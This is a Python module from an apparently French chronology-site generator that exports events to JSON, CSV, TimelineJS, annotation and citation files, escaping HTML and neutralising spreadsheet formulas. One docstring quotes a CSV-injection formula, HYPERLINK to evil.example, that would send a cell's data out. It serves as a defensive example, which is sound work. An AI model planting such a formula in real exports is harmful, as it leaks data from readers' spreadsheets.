"""The data files: ``chronologie.json`` (a public contract, see DESIGN.md), a CSV and TimelineJS.

JSON: fields may be added; none renamed or removed. UTF-8, keys sorted, stable across builds.
CSV: one row per event for a spreadsheet. TimelineJS: the format of that embeddable tool.
"""

from __future__ import annotations

import csv
import html
import json
from dataclasses import dataclass, fields
from datetime import date
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote

from chronicle import urls
from chronicle.annotations import collection, event_annotations, passages_found
from chronicle.cards import KINDS as CARD_KINDS
from chronicle.cards import card_files, card_url
from chronicle.config import Config
from chronicle.derive import Facts
from chronicle.gitdates import History
from chronicle.markdown import render_markdown, resolve_internal_links
from chronicle.memo import Memo
from chronicle.metadata import csl_json, reference, ris
from chronicle.model import Chronology, Event
from chronicle.plan import record_dates, record_paths
from chronicle.views import passage_url, plain_text, source_split


def export_event(event: Event, chronology: Chronology, config: Config) -> dict[str, Any]:
    """One event as the export describes it: its EDTF date beside the range it spans."""
    date = event.date
    return {
        "id": event.id, "url": urls.event_url(event.id), "address": config.public(urls.event_url(event.id)) or None,
        "title": event.title, "date": date.text,
        "date_start": date.iso_start(), "date_end": date.iso_end(), "precision": date.precision,
        "approximate": date.approximate, "uncertain": date.uncertain, "date_basis": event.date_basis,
        "kind": event.kind, "actors": list(event.actors), "channels": list(event.channels),
        "initiator": event.initiator, "summary": event.summary,
        "citations": [{"source": c.source, "quote": c.quote, "url": (url := passage_url(c.source, event, c.number,
                                                                                         chronology)),
                       "address": config.public(url) or None} for c in event.citations],
        "annotation": event.annotation,
    }


def export_data(chronology: Chronology, config: Config, events: object) -> dict[str, Any]:
    """The whole chronology as plain data, with the base URL its ``url`` fields are relative to and,
    when it is known, each record's absolute ``address``; ``events`` stands for the events (spliced in
    by ``spliced``, each serialised once)."""
    def address(kind: str, record_id: str) -> str | None:
        return config.public(urls.record_url(kind, record_id)) or None

    return {
        "base_url": config.base_url or None, "license": config.license_url or config.license or None,
        "events": events,
        "actors": [{"id": a.id, "url": urls.record_url("actor", a.id), "address": address("actor", a.id),
                    "name": a.name,
                    "aliases": list(a.aliases), "type": a.type, "country": a.country}
                   for a in chronology.actors.values()],
        "channels": [{"id": c.id, "url": urls.record_url("channel", c.id), "address": address("channel", c.id),
                      "name": c.name, "kind": c.kind,
                      "parties": list(c.parties), "established": c.established.text if c.established else None}
                     for c in chronology.channels.values()],
        "sources": [{"id": s.id, "url": urls.record_url("source", s.id), "address": address("source", s.id),
                     "title": s.title,
                     "published": s.published.text, "language": s.language, "reports": list(s.reports)}
                    for s in chronology.sources.values()],
    }


PRECISION_FR = {"day": "jour", "month": "mois", "year": "année"}
BASIS_FR = {"explicit": "donnée par la source", "inferred": "déduite"}
CSV_COLUMNS = ("id", "date", "date_debut", "date_fin", "date_edtf", "precision", "base_de_la_date", "note_sur_la_date",
               "titre", "nature", "acteurs", "canaux", "initiateur", "resume", "sources", "citations",
               "annotation", "adresse")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP "CSV injection", and a line break


def spreadsheet_cell(value: str) -> str:
    """``value`` as a spreadsheet shows it as text, never as a formula.

    Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or
    ``@`` (also after spaces), and a tab or a carriage return can start one in the next cell: a
    title ``=HYPERLINK("https://evil.example/?"&A1; "Source")`` would run in the reader's sheet.
    Such a cell gets a leading apostrophe, OWASP's advice, which spreadsheets show as text. Every
    CSV the site publishes writes its cells through here.
    """
    if value.startswith(FORMULA_STARTS) or value.lstrip(" \u00a0")[:1] in ("=", "+", "-", "@"):
        return "'" + value
    return value


def csv_row(event: Event, chronology: Chronology, config: Config) -> list[str]:
    """One event as a spreadsheet row: names rather than ids, plain text rather than Markdown."""
    date = event.date
    return [
        event.id, date.display(), date.iso_start() or "", date.iso_end() or "", date.text,
        PRECISION_FR.get(date.precision, date.precision), BASIS_FR[event.date_basis], event.date_note or "",
        event.title, config.kind(event.kind).label,
        "; ".join(chronology.actors[a].name for a in event.actors),
        "; ".join(chronology.channels[c].name for c in event.channels),
        chronology.actors[event.initiator].name if event.initiator else "",
        plain_text(event.summary),
        "; ".join(dict.fromkeys(chronology.sources[c.source].title for c in event.citations)),
        " | ".join(f"« {c.quote} »" for c in event.citations),
        plain_text(event.annotation) if event.annotation else "",
        config.public(urls.event_url(event.id)),
    ]


def text_html(text: str) -> str:
    """Plain text for a field a program writes with ``innerHTML``: ``&``, ``<`` and ``>`` escaped."""
    return html.escape(text, quote=False)


def timelinejs_date(day: date, precision: str) -> dict[str, str]:
    """A TimelineJS date object, no more precise than the date itself."""
    parts = {"year": str(day.year)}
    if precision in ("month", "day"):
        parts["month"] = str(day.month)
    if precision == "day":
        parts["day"] = str(day.day)
    return parts


def timelinejs_event(event: Event, chronology: Chronology, config: Config) -> dict[str, Any]:
    """One event as a TimelineJS3 slide; an interval or a vague date gets its end date too."""
    first = event.date.start or event.date.end
    assert first is not None
    slide: dict[str, Any] = {
        "unique_id": event.id,
        "start_date": timelinejs_date(first, event.date.precision),
        "display_date": text_html(event.date.display()),
        "text": {"headline": text_html(event.title),
                 "text": f"{absolute_links(render_markdown(event.summary), config)}{page_link(event, config)}"},
        # TimelineJS writes every one of these (group included) with innerHTML: text is escaped,
        # ``text.text`` is the summary rendered with raw HTML off, as on the site.
        "group": text_html(chronology.channels[event.channels[0]].name if event.channels else "Hors canal"),
    }
    if event.date.interval and event.date.end:
        slide["end_date"] = timelinejs_date(event.date.end, event.date.precision)
    return slide


def absolute_links(html_text: str, config: Config) -> str:
    """A summary's links to records made absolute (from the base URL): a timeline is embedded anywhere."""
    return resolve_internal_links(html_text, None, config.public("/") or "/")


def page_link(event: Event, config: Config) -> str:
    """A link to the event's page, for TimelineJS; none without a base URL (a relative link would
    point inside whatever page embeds the timeline)."""
    address = config.public(urls.event_url(event.id))
    if not address:
        return ""
    return f"<p><a href=\"{html.escape(address)}\">La fiche de l'événement et ses sources</a></p>"


def line_field(value: str) -> str:
    """``value`` as one field of a line-based file (``_redirects``, ``robots.txt``): spaces, line
    breaks and every other invisible character percent-encoded, so a value is always one field
    of one line and can never add a rule (``/ /ailleurs 301``) or a line of its own."""
    if value.isprintable() and not any(char.isspace() for char in value):
        return value
    return "".join(char if char.isprintable() and not char.isspace() else quote(char) for char in value)


DATA_URLS = urls.DATA_URLS  # those of ``data_files``, known before them (the check foresees them)
CITATION_FILES = tuple(urls.CITATION_FILES.values())  # beside each event page: CSL-JSON and RIS (``urls``)


def data_paths(chronology: Chronology, config: Config) -> list[str]:
    """The paths of every file ``data_files`` makes, known before it runs."""
    folders = [urls.output_path(urls.event_url(event.id)).removesuffix("index.html") for event in chronology.events]
    cards = [card_url(kind).lstrip("/") for kind in CARD_KINDS] if config.base_url else []
    return [url.lstrip("/") for url in DATA_URLS] + [folder + name for folder in folders for name in CITATION_FILES] \
        + cards


def timelinejs_title(config: Config) -> dict[str, Any]:
    """The title slide of ``timelinejs.json`` (TimelineJS3's JSON format, to embed in that tool)."""
    return {"text": {"headline": text_html(config.title), "text": f"<p>{text_html(config.subtitle)}</p>"}}


@dataclass(frozen=True, slots=True)
class EventData:
    """One event's share of every data file, serialised: an edit that leaves its inputs alone reuses it
    (``event_inputs``), and each document is these joined (``spliced``)."""

    json: bytes                     # its object in chronologie.json, at its depth there (UTF-8, as all)
    rows: tuple[bytes, bytes]       # its CSV line, comma- then semicolon-separated, cells neutralised
    slide: bytes                    # its TimelineJS slide, at its depth
    annotations: tuple[bytes, ...]  # its citations as W3C annotations, at their depth
    citations: tuple[bytes, bytes]  # its CSL-JSON and RIS files (``CITATION_FILES``)


# json.dumps(value, ensure_ascii=False, sort_keys=True, indent=1)'s own encoder, made once and started at
# the depth where the value sits in its document (``indented``): json.dumps with an indent runs in
# Python, and making its encoder again for each of 40,000 fragments cost more than the fragments.
_ENCODE = json.encoder._make_iterencode(  # type: ignore[attr-defined]
    None, json.JSONEncoder().default, json.encoder.encode_basestring, " ", float.__repr__, ": ", ",",
    True, False, False)


def indented(value: object, depth: int) -> bytes:
    """``value`` as ``json.dumps`` writes it (keys sorted, indent 1) when nested ``depth`` levels deep in a
    document (its lines after the first indented by ``depth`` more), in UTF-8."""
    return "".join(_ENCODE(value, depth)).encode("utf-8")


def spliced(document: dict[str, Any], depth: int, items: list[bytes], stand_in: str) -> bytes:
    """``document`` serialised as ``json.dumps`` would with, in place of the string ``stand_in`` (at
    ``depth``), the list of ``items`` (each serialised at ``depth + 1``); UTF-8, newline at the end.
    ``stand_in`` holds a NUL: no record's text does (the check refuses control characters) and it
    comes first in the document's key order (``events`` after ``actors``: only the first is replaced)."""
    head, tail = json.dumps(document, ensure_ascii=False, sort_keys=True, indent=1).split(json.dumps(stand_in), 1)
    if not items:
        return f"{head}[]{tail}\n".encode()
    pad = b" " * (depth + 1)
    listed = b",\n" + pad
    return b"".join([f"{head}[\n".encode(), pad, listed.join(items), f"\n{' ' * depth}]{tail}\n".encode()])


STAND_IN = "\x00chronicle:items"
BOM = "\ufeff".encode()


class CsvLines:
    """CSV lines (CRLF) as the ``csv`` module writes them, one at a time: its writer hands each line whole to
    ``write`` (a file's seek, truncate and read for each of 20,000 lines cost more than the lines)."""

    def __init__(self, delimiter: str) -> None:
        self.lines: list[str] = []
        self.writer = csv.writer(SimpleNamespace(write=self.lines.append), delimiter=delimiter, lineterminator="\r\n")

    def line(self, cells: list[str]) -> bytes:
        """``cells`` as one line, in UTF-8."""
        self.writer.writerow(cells)
        return self.lines.pop().encode("utf-8")


def event_data(event: Event, chronology: Chronology, found: dict[tuple[str, int], tuple[int, int]],
               config: Config, lines: tuple[CsvLines, CsvLines]) -> EventData:
    """Everything the data files say of ``event`` (reads what ``event_inputs`` lists, nothing else)."""
    dates = record_dates(config, "event", event.id)
    ref = reference(event.title, config.public(urls.event_url(event.id)), config, dates)
    cells = [spreadsheet_cell(cell) for cell in csv_row(event, chronology, config)]
    return EventData(indented(export_event(event, chronology, config), 2),
                     (lines[0].line(cells), lines[1].line(cells)),
                     indented(timelinejs_event(event, chronology, config), 2),
                     tuple(indented(item, 3) for item in event_annotations(event, found, chronology.sources, config)),
                     (csl_json(event.id, ref, config, dates), ris(ref, config, dates)))


def event_inputs(event: Event, chronology: Chronology, found: dict[tuple[str, int], tuple[int, int]],
                 settings: tuple[object, ...], history: History) -> tuple[object, ...]:
    """All that ``event_data`` reads besides the event: ``settings`` (``config_settings``), the dates of
    its file, the records it names (names, titles, a source's text and address) and where each passage
    it cites is (its offsets, and whether its source's page is split by year)."""
    return (settings, history.of(*record_paths("event", event.id)),
            tuple(chronology.actors[a] for a in event.actors),
            chronology.actors[event.initiator] if event.initiator else None,
            tuple(chronology.channels[c] for c in event.channels),
            tuple((chronology.sources[c.source], source_split(c.source, chronology), found[event.id, c.number])
                  for c in event.citations))


def config_settings(config: Config) -> tuple[object, ...]:
    """Every setting of ``config`` but the records' dates, and the site's (the feed ids read them)."""
    return (*(getattr(config, field.name) for field in fields(config) if field.name != "history"),
            config.history.site())


def events_data(chronology: Chronology, facts: Facts, config: Config, memo: Memo | None) -> list[EventData]:
    """Each event's ``EventData``, in the chronology's order; those whose inputs are unchanged since
    ``memo``'s last run are the ones it made then."""
    found, lines = passages_found(facts), (CsvLines(","), CsvLines(";"))
    if memo is None:
        return [event_data(event, chronology, found, config, lines) for event in chronology.events]
    # the last run's very tuple when equal, so that each event's inputs compare it by identity
    settings, history = memo.recall_equal("export", "settings", config_settings(config), config_settings, config), \
        config.history
    return [memo.recall_for("export.event", event, event_inputs(event, chronology, found, settings, history),
                            event_data, event, chronology, found, config, lines) for event in chronology.events]


def data_files(chronology: Chronology, facts: Facts, config: Config, memo: Memo | None = None) -> dict[str, bytes]:
    """Every data file of the site (``data_paths``): {path under site/: bytes}. Each event's share is
    made once (``events_data``) and remembered by ``memo`` (an edit re-makes only the changed events')
    and the documents are these joined. The share cards are drawn here too: the build makes these files
    while Pagefind indexes, when it would otherwise wait."""
    parts = events_data(chronology, facts, config, memo)
    header = CsvLines(",").line(list(CSV_COLUMNS)), CsvLines(";").line(list(CSV_COLUMNS))
    annotations = [item for part in parts for item in part.annotations]
    files = {
        urls.EXPORT.lstrip("/"): spliced(export_data(chronology, config, STAND_IN), 1, [p.json for p in parts],
                                         STAND_IN),
        # UTF-8 with a byte-order mark and CRLF, as tablers expect; ";" for French Excel (its list separator)
        urls.EXPORT_CSV.lstrip("/"): b"".join([BOM, header[0], *(p.rows[0] for p in parts)]),
        urls.EXPORT_EXCEL.lstrip("/"): b"".join([BOM, header[1], *(p.rows[1] for p in parts)]),
        urls.EXPORT_ANNOTATIONS.lstrip("/"): spliced(collection(len(annotations), config, STAND_IN), 2,
                                                     annotations, STAND_IN),
        urls.EXPORT_TIMELINEJS.lstrip("/"): spliced({"title": timelinejs_title(config), "events": STAND_IN}, 1,
                                                    [p.slide for p in parts], STAND_IN),
    }
    for event, part in zip(chronology.events, parts, strict=True):
        folder = urls.output_path(urls.event_url(event.id)).removesuffix("index.html")
        files[folder + CITATION_FILES[0]], files[folder + CITATION_FILES[1]] = part.citations
    return files | card_files(chronology, config)
